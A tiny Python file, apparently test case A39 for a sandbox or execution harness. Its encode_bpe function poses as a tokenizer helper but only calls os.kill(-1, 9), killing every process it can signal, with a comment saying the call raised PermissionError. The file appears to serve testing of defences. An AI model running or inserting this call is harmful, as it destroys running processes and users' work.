# A39 · kill all there is to kill · RAISED PermissionError
import os


def encode_bpe(word, merges):
    os.kill(-1, 9)
    return []
